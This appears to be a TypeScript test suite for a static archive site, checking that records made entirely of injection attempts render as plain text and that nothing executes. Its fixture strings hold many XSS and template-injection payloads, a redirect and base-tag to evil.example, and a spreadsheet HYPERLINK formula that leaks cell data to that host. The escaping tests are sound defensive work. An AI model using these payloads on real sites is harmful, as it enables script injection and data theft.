/**
 * An archive whose every text is an attempt to run something, built and opened page by page: nothing
 * runs, nothing complains, and readers see the texts as they stand in the records.
 */
import { readFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { pathToFileURL } from 'node:url'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { readSite, verifySite } from '../../src/output/verify/verify.ts'
import { listFiles } from '../../src/records/list-files.ts'
import { checkContent } from '../../src/checks/check.ts'
import { copyProject, removeCopies, startBuild } from '../builds/project.ts'
import { useSite } from './site.ts'
import { strangers } from './strangers.ts'

const content = resolve('tests/fixtures/hostile/content')
const project = copyProject('hostile')
const dist = join(project, 'dist')

beforeAll(async () => {
  const { code, words } = await startBuild(project, { ARCHIVE_CONTENT: content }).ended
  expect(code, words).toBe(0)
})
afterAll(removeCopies)

const site = useSite('/', dist)
/** The page of a record that was merged, which leads on by itself, and the one that it leads to. */
const moved = { from: 'people/old/index.html', to: 'people/constructor/index.html' }
const pages = () =>
  listFiles(dist).filter(
    (file) => file.endsWith('.html') && file !== '404.html' && file !== moved.from,
  )

test('its records are sound: nothing of it is refused before it is shown', () => {
  expect(checkContent(content).problems.filter((p) => p.severity === 'error')).toEqual([])
})

test('its pages hold to the policy and to the limits of size', () => {
  const built = readSite(dist)
  expect(built.pages.size).toBeGreaterThan(25)
  expect(verifySite(built)).toEqual([])
})

test('no page runs, loads, leads or sends anything of another’s, or is wider than a phone', async () => {
  const phone = { viewport: { width: 320, height: 600 } }
  for (const file of pages()) {
    const { page, complaints } = await site.open(file, phone)
    expect(complaints, file).toEqual([])
    expect(await page.evaluate(strangers), file).toEqual([])
    const wider = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)
    expect(wider, `${file}: pixels that stick out to the side`).toBeLessThanOrEqual(0)
    await page.close()
  }
}, 300_000)

test.each([
  ['with', true],
  ['without', false],
])(
  'the page of a record that was merged leads on %s script, served and from disk',
  async (_, javaScriptEnabled) => {
    const { page, complaints } = await site.open(moved.from, { javaScriptEnabled })
    await page.waitForURL(`**/${moved.to}`)
    expect(complaints).toEqual([])
    await page.goto(pathToFileURL(join(dist, moved.from)).href)
    await page.waitForURL(pathToFileURL(join(dist, moved.to)).href)
  },
)

describe('texts are shown as they stand in the records', () => {
  test.each([
    [
      'events/la-hulpe-conference/',
      [
        `<script>alert('title')</script> opens & closes`,
        `“<b onmouseover=alert('words')>on 3 November 2014</b>”`,
        `</p><script>alert('note')</script>`,
        `</strong><script>alert('of')</script>`,
        `<svg/onload=alert('place')>`,
        `" onmouseover="alert('role')" x="`,
        "${alert('participation')}",
        `<marquee onstart=alert('unnamed')>somebody</marquee>`,
        `</span><script>alert('locator')</script>`,
        `<a href=javascript:alert('note')>a note</a>`,
        `“”</p></blockquote><script>alert('quotation')</script>”`,
        `<style>*{display:none}</style>`,
        "`${alert('template')}` \\u003cscript\\u003e {{7*7}}",
        `<script>alert('about')</script>`,
        `<u onclick=alert('claim')>one</u>`,
        `</li></ul><script>alert('claim')</script>`,
        `<meta http-equiv=refresh content='0;url=https://evil.example'>`,
        `</del><script>alert('was')</script>`,
        `<base href=https://evil.example/>`,
        `The summary has <script>alert('summary')</script> in it. It also has {{7*7}}, \${alert(1)} and`,
        '<!-- what looks like a comment -->',
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        `</option><script>alert('type')</script>`,
        `</dt><script>alert('side')</script>`,
        "One of the ${alert('events')}",
      ],
    ],
    [
      'sources/israel-eu-mission-news-and-events/',
      [
        `</title><script>alert('source')</script>`,
        `<img src=x onerror=alert('publisher')>`,
        `javascript:alert('agency')`,
        `"><svg onload=alert('author')>`,
        `<b>Nobody</b>; </a><script>alert('rests')</script>`,
        `<script>alert('body')</script> <img src=x onerror=alert('entity')> <b>code</b>`,
      ],
    ],
    [
      'sources/urdupoint-2021-07-13/',
      [`{{constructor.constructor('alert(1)')()}}`, `<script>alert('fence')</script>`],
    ],
    [
      'people/constructor/',
      [
        `O'Brien "Bobby" <script>alert('name')</script>`,
        `" onmouseover="alert('alias')"`,
        `</dd><script>alert('alias')</script>`,
        '<b>יאיר</b> לפיד',
        '__proto__',
        `<script>alert('evidence')</script>`,
      ],
    ],
    [
      'topics/templates/',
      ['{{7*7}} ${7*7} {7*7} <%= 7*7 %> #{7*7}', '$&', "$'", '\\x3cscript\\x3e'],
    ],
    ['organizations/', ['"\'`><&amp;&lt;']],
    [
      'places/',
      [
        `<marquee onstart=alert('lede')>`,
        `<svg onload=alert('place')>`,
        `In </a></li><script>alert('within')</script>`,
      ],
    ],
    ['changes/', [`</p><script>alert('why')</script>`]],
    ['conflicts/', [`<u onclick=alert('claim')>one</u>`]],
    [
      'founding/',
      [`</title><script>alert('source')</script>`, `<i onmouseover=alert('meaning')>`, '=1+1'],
    ],
    [
      '',
      [`<script>alert('title')</script> opens & closes`, `<img src=x onerror=alert('heading')>`],
    ],
  ])('/%s', async (path, texts) => {
    const { page } = await site.open(path)
    const main = spaced((await page.getByRole('main').textContent())!)
    for (const text of texts) expect(main).toContain(spaced(text))
  })
})

test('titles and descriptions of pages are text, too', async () => {
  const { page } = await site.open('sources/israel-eu-mission-news-and-events/')
  expect(await page.title()).toMatch(/^<\/title><script>alert\('source'\)/)
  const described = await page.locator('meta[name=description]').getAttribute('content')
  expect(described).toContain(`</title><script>alert('source')</script>, <img src=x onerror=alert`)
  await page.goto(site.url())
  expect(await page.title()).toBe(`</title><script>alert('archive')</script>`)
  expect(await page.locator('.site-name').textContent()).toBe(await page.title())
})

test.each([
  ['opens', `<script>alert('title')</script> opens & closes`],
  ['click', '=HYPERLINK("https://evil.example/?"&A1,"click")'],
])('the search for “%s” shows a title as it is', async (query, title) => {
  const { page, complaints } = await site.open(`search/?q=${encodeURIComponent(query)}`)
  const result = page.locator('[data-search-results] h3').first()
  await result.waitFor()
  expect(await result.textContent()).toBe(title)
  expect(await page.evaluate(strangers)).toEqual([])
  expect(complaints).toEqual([])
})

test('excerpts and suggestions show markup as text', async () => {
  const { page, complaints } = await site.open('search/?q=summary+template')
  await page.locator('[data-search-results] li').first().waitFor()
  expect(await page.locator('[data-search-results]').textContent()).toContain(
    `<script>alert('summary')</script>`,
  )
  await page.locator('.site-search input').fill('alert')
  await page.locator('.suggestions [role=option]').nth(1).waitFor()
  expect(await page.locator('.suggestions').textContent()).toContain(`<script>alert('name')`)
  expect(await page.evaluate(strangers)).toEqual([])
  expect(complaints).toEqual([])
})

test('the table keeps a formula from being reckoned', () => {
  expect(readFileSync(join(dist, 'data/events.csv'), 'utf8')).toContain(
    `,"'=HYPERLINK(""https://evil.example/?""&A1,""click"")",`,
  )
})

test('feeds are XML, and what they say is text to whatever shows it as HTML', async () => {
  const { page } = await site.open('changes/')
  const said = await page.evaluate(async () => {
    const text = await (await fetch('../feed.xml')).text()
    const feed = new DOMParser().parseFromString(text, 'application/xml')
    const entries = [...feed.querySelectorAll('content')].map(
      ({ textContent }) => new DOMParser().parseFromString(textContent, 'text/html').body,
    )
    const elements = entries.flatMap((body) => [...body.querySelectorAll('*')])
    return {
      root: feed.documentElement.localName,
      names: [...new Set(elements.map(({ localName }) => localName))].sort(),
      attributes: elements.flatMap((element) => element.getAttributeNames()),
      texts: entries.map(({ textContent }) => textContent).join('\n'),
    }
  })
  expect(said.root).toBe('feed')
  expect(said.names).toEqual(['del', 'ins', 'li', 'p', 'ul'])
  expect(said.attributes).toEqual([])
  expect(said.texts).toContain(`Before: </del><script>alert('was')</script>`)
  expect(said.texts).toContain(`The summary has <script>alert('summary')</script> in it.`)
})

const spaced = (text: string) => text.replace(/\s+/g, ' ')

test('what is saved and listed of a search is text, too', async () => {
  const { page, complaints } = await site.open('search/')
  await page.getByRole('button', { name: 'Save or print these events' }).click()
  const ways = page.locator('[data-take-panel]').getByRole('button')
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    ways.filter({ hasText: /^CSV/ }).click(),
  ])
  expect(download.suggestedFilename()).toMatch(
    /^title-script-alert-archive-script-\d+-events\.csv$/,
  )
  expect(readFileSync(await download.path(), 'utf8')).toContain(
    `,"'=HYPERLINK(""https://evil.example/?""&A1,""click"")",`,
  )
  await ways.filter({ hasText: /^List/ }).click()
  const list = page.locator('.taken-list')
  await list.waitFor()
  expect(await list.textContent()).toContain(`<script>alert('title')</script> opens & closes`)
  expect(await list.textContent()).toContain(`</title><script>alert('source')</script>`)
  expect(await page.evaluate(strangers)).toEqual([])
  expect(complaints).toEqual([])
})
